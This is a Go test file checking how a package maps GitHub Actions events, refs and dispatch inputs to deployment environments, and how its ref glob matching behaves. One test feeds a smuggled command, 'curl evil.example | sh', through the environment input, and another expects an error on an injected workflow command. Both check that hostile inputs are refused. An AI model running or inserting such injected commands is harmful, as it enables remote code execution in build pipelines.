package environment

import (
	"strings"
	"testing"
)

func TestResolve(t *testing.T) {
	custom, err := Load("testdata/pipeline.yaml")
	if err != nil {
		t.Fatal(err)
	}
	const events = "testdata/events/"
	// GitHub's filter semantics: * stays within a segment, ** crosses "/".
	globs := Config{Rules: []Rule{
		{Event: "push", Ref: "refs/heads/release/*", Environment: Staging},
		{Event: "push", Ref: "refs/tags/v*", Environment: Prod},
		{Event: "push", Ref: "refs/heads/**", Environment: Test},
	}}
	tests := []struct {
		name    string
		config  Config
		trigger Trigger
		want    Name
		wantErr []string
	}{
		{"pull request payload", DefaultConfig(),
			Trigger{EventName: "pull_request", Ref: "refs/pull/42/merge", EventPath: events + "pull_request.json"}, Preview, nil},
		{"push to main payload", DefaultConfig(),
			Trigger{EventName: "push", Ref: "refs/heads/main", EventPath: events + "push-main.json"}, Test, nil},
		{"push to main, ref only in payload", DefaultConfig(),
			Trigger{EventName: "push", EventPath: events + "push-main.json"}, Test, nil},
		{"push to a feature branch", DefaultConfig(),
			Trigger{EventName: "push", EventPath: events + "push-feature.json"}, "", []string{"no environment for event \"push\" on ref \"refs/heads/feature/orders\": pass", "resolve.rules"}},
		{"a mistyped event", DefaultConfig(),
			Trigger{EventName: "pull_requestt", Ref: "refs/pull/42/merge"}, "", []string{`no environment for event "pull_requestt"`, "(the rules cover the events pull_request, push"}},
		{"dispatch input from payload", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Ref: "refs/heads/main", EventPath: events + "workflow_dispatch-staging.json"}, Staging, nil},
		{"dispatch input value wins over payload", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Ref: "refs/heads/main", EventPath: events + "workflow_dispatch-staging.json", Input: "prod"}, Prod, nil},
		{"dispatch input without payload", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Ref: "refs/heads/main", Input: "staging"}, Staging, nil},
		{"dispatch without input falls back to rules", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Ref: "refs/heads/main"}, "", []string{"no environment for event \"workflow_dispatch\"", `pass the "environment" input`}},
		{"hostile dispatch payload", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Ref: "refs/heads/main", EventPath: events + "workflow_dispatch-hostile.json"}, "",
			[]string{`unknown environment "prod\n::set-output`, "valid environments are"}},
		{"hostile input", DefaultConfig(),
			Trigger{EventName: "workflow_dispatch", Input: "prod && curl evil.example | sh"}, "", []string{"unknown environment", "valid environments"}},
		{"explicit input on a push", DefaultConfig(),
			Trigger{EventName: "push", Ref: "refs/heads/feature/x", Input: "preview"}, Preview, nil},
		{"pull request title cannot choose", DefaultConfig(),
			Trigger{EventName: "pull_request", Ref: "refs/pull/42/merge", EventPath: events + "pull_request.json"}, Preview, nil},
		{"no event name", DefaultConfig(), Trigger{Ref: "refs/heads/main"}, "", []string{"no GitHub event name"}},
		{"missing payload file", DefaultConfig(),
			Trigger{EventName: "push", EventPath: events + "nope.json"}, "", []string{"nope.json"}},
		{"payload not JSON", DefaultConfig(),
			Trigger{EventName: "push", EventPath: "testdata/pipeline.yaml"}, "", []string{"read GitHub event"}},
		{"zero config uses default rules", Config{},
			Trigger{EventName: "pull_request", Ref: "refs/pull/1/merge"}, Preview, nil},
		{"custom dispatch input name", custom,
			Trigger{EventName: "workflow_dispatch", EventPath: events + "workflow_dispatch-staging.json"}, "", []string{`pass the "target" input`}},
		{"custom release rule", custom,
			Trigger{EventName: "push", Ref: "refs/heads/release/2026-11"}, Staging, nil},
		{"custom main rule", custom,
			Trigger{EventName: "push", Ref: "refs/heads/main"}, Test, nil},
		{"unmatched event", custom,
			Trigger{EventName: "schedule", Ref: "refs/heads/main"}, "", []string{`event "schedule"`}},
		{"** crosses /", globs,
			Trigger{EventName: "push", Ref: "refs/heads/feature/x"}, Test, nil},
		{"** matches one segment", globs,
			Trigger{EventName: "push", Ref: "refs/heads/main"}, Test, nil},
		{"* matches within a segment", globs,
			Trigger{EventName: "push", Ref: "refs/heads/release/1.2"}, Staging, nil},
		{"* does not cross /", globs,
			Trigger{EventName: "push", Ref: "refs/heads/release/1/2"}, Test, nil},
		{"tag pattern", globs,
			Trigger{EventName: "push", Ref: "refs/tags/v1.2.3"}, Prod, nil},
		{"tag pattern is not a prefix match", globs,
			Trigger{EventName: "push", Ref: "refs/tags/release-1"}, "", []string{`no environment for event "push" on ref "refs/tags/release-1"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := tt.config.Resolve(tt.trigger)
			if tt.wantErr != nil {
				if err == nil {
					t.Fatalf("Resolve = %+v, want an error", got)
				}
				for _, w := range tt.wantErr {
					if !strings.Contains(err.Error(), w) {
						t.Errorf("error %q does not contain %q", err, w)
					}
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got.Name != tt.want || got.Why == "" {
				t.Errorf("Resolve = %+v, want %s", got, tt.want)
			}
		})
	}
}

func TestMatchRef(t *testing.T) {
	tests := []struct {
		pattern, ref string
		want         bool
	}{
		{"", "refs/heads/anything/at/all", true},
		{"refs/heads/main", "refs/heads/main", true},
		{"refs/heads/main", "refs/heads/mainline", false},
		{"refs/heads/**", "refs/heads/feature/x", true},
		{"refs/heads/**", "refs/heads/main", true},
		{"refs/heads/**", "refs/tags/v1", false},
		{"refs/heads/release/*", "refs/heads/release/1.2", true},
		{"refs/heads/release/*", "refs/heads/release/1/2", false},
		{"refs/heads/release/**", "refs/heads/release/1/2", true},
		{"refs/tags/v*", "refs/tags/v1.2.3", true},
		{"refs/tags/v*", "refs/tags/x1", false},
		{"refs/tags/v*", "refs/tags/v1/hotfix", false},
		{"refs/heads/**/deploy", "refs/heads/team/a/deploy", true},
		{"refs/heads/**/deploy", "refs/heads/team/a/deployed", false},
		{"refs/heads/{main,release/*}", "refs/heads/release/2", true},
		{"refs/heads/v?", "refs/heads/v1", true},
		{"refs/heads/v?", "refs/heads/v/", false},
		{"refs/heads/v?", "refs/heads/v12", false},
		{"refs/heads/[a-c]*", "refs/heads/beta", true},
		{"refs/heads/[^a-c]*", "refs/heads/beta", false},
		{`refs/heads/\*`, "refs/heads/*", true},
		{`refs/heads/\*`, "refs/heads/a", false},
		{"refs/heads/é*", "refs/heads/éa", true},
		{"refs/heads/" + strings.Repeat("**/", 30) + "x", "refs/heads/" + strings.Repeat("a/", 60) + "y", false},
	}
	for _, tt := range tests {
		got, err := matchRef(tt.pattern, tt.ref)
		if err != nil || got != tt.want {
			t.Errorf("matchRef(%q, %q) = %v, %v; want %v", tt.pattern, tt.ref, got, err, tt.want)
		}
	}
	for _, bad := range []string{"refs/heads/[x", "refs/heads/{a,b", `refs/heads/x\`} {
		if _, err := matchRef(bad, "refs/heads/x"); err == nil {
			t.Errorf("matchRef(%q) accepted a malformed pattern", bad)
		}
	}
}
